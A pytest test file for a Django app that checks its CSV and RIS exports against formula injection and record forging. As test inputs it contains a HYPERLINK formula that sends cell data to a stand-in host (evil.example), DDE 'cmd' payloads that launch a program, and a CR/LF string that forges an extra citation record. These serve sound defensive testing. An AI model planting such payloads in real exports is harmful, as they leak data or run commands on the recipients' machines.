"""Exports cannot be turned into weapons: CSV cells a spreadsheet would run are defused in the
page CSVs and the data release alike (toolkit/spreadsheets.py), reversibly for programs; RIS
citations never carry a control character, and titles refuse them on input."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.exceptions import ValidationError
from django.core.management import call_command
from django.db import connection

from critiques.models import Critique
from indicators.models import Indicator
from plans.models import Agency, Source
from toolkit.spreadsheets import restore, safe_cell

pytestmark = pytest.mark.django_db

WORDING = '=HYPERLINK("https://evil.example/"&A1,"x")'
AGENCY = "@SUM(1+1)*cmd|' /C calc'!A0"
TITLE = "=cmd|' /C calc'!A0"


def release_rows(folder, table: str) -> list[dict]:
    with (folder / "data" / f"{table}.csv").open(newline="", encoding="utf-8") as stream:
        return list(csv.DictReader(stream))


def test_the_data_release_defuses_formulas_reversibly(mexico, tmp_path):
    indicator = Indicator.objects.get(plan=mexico, code="PART-I1")
    Indicator.objects.filter(pk=indicator.pk).update(wording_en=WORDING)
    agency = Agency.objects.filter(plan_roles__plan=mexico).first()
    Agency.objects.filter(pk=agency.pk).update(name_en=AGENCY)
    critique = Critique.objects.published().filter(plan=mexico).order_by("key").first()
    Critique.objects.filter(pk=critique.pk).update(title_en=TITLE)
    call_command("export_dataset", "-o", str(tmp_path / "release"), verbosity=0)
    folder = tmp_path / "release"

    cells = [
        value
        for table in ("indicators", "agencies", "critiques")
        for row in release_rows(folder, table)
        for value in row.values()
    ]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert f"'{WORDING}" in cells and f"'{AGENCY}" in cells and f"'{TITLE}" in cells
    # A program gets the stored values back by the documented rule.
    assert {WORDING, AGENCY, TITLE} <= {restore(c) for c in cells}


def test_the_comparison_csv_defuses_formulas(mexico, minimal_plan, client):
    from plans.models import PlanAgency

    lead = PlanAgency.objects.get(plan=mexico, role=PlanAgency.Role.LEAD)
    Agency.objects.filter(pk=lead.agency_id).update(acronym=TITLE)  # past the form's validator
    response = client.get("/en/compare/", {"plans": "mexico-2021,testland-2024", "format": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    lead_row = next(row for row in rows if row[1] == "Lead agency")
    assert lead_row[2] == f"'{TITLE}"
    assert not [c for row in rows for c in row if c.startswith(("=", "+", "@"))]


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "＝1", "'=1", "''-x", "'plain", "plain", "", "a=b"],
)
def test_defusing_is_exact_and_reversible(value):
    written = safe_cell(value)
    assert restore(written) == value
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r", "＝"))
    assert written == value or written == "'" + value
    assert safe_cell(-5) == -5  # numbers are not text


def test_a_title_with_cr_lf_cannot_forge_a_ris_record(mexico, client):
    critique = Critique.objects.published().filter(plan=mexico).order_by("key").first()
    # PostgreSQL cannot store a NUL in text at all, so only SQLite gets one to escape.
    nul = "" if connection.vendor == "postgresql" else "\x00"
    forged = f"Real\r\nER  - \r\nTY  - JOUR\r\nTI  - Forged{nul}\x1b\u2028end"
    Critique.objects.filter(pk=critique.pk).update(title_en=forged)
    response = client.get(f"/en/plans/mexico-2021/critiques/{critique.key}/", {"cite": "ris"})
    assert response.status_code == 200
    text = response.content.decode()
    lines = text.split("\r\n")
    assert [line[:2] for line in lines].count("TY") == 1
    assert [line[:2] for line in lines].count("ER") == 1
    assert "TI  - Real ER - TY - JOUR TI - Forged end" in lines
    assert not any(ch in text.replace("\r\n", "") for ch in "\r\n\x00\x1b\u2028")


@pytest.mark.parametrize("title", ["Two\r\nlines", "Tab\there", "Nul\x00", "Sep\u2028"])
def test_titles_refuse_control_characters_on_input(mexico, title):
    critique = Critique.objects.filter(plan=mexico).first()
    critique.title_en = title
    with pytest.raises(ValidationError) as refused:
        critique.full_clean()
    assert "one line of text" in str(refused.value.message_dict["title_en"])
    source = Source.objects.filter(plans=mexico).first()
    source.title = title
    with pytest.raises(ValidationError, match="control character"):
        source.full_clean()


def test_the_admin_shows_a_field_error_for_a_title_with_a_line_break(mexico, client, maintainer):
    source = Source.objects.filter(plans=mexico).first()
    client.force_login(maintainer)
    page = client.get(f"/admin/plans/source/{source.pk}/change/")
    form = page.context["adminform"].form
    data = {k: v for k, v in form.initial.items() if v is not None and not isinstance(v, list)}
    data["title_en"] = "Line one\r\nline two"  # a column per language (a [bracketed] title is ours)
    response = client.post(f"/admin/plans/source/{source.pk}/change/", data)
    assert response.status_code == 200
    assert "one line of text" in str(response.context["adminform"].form.errors["title_en"])
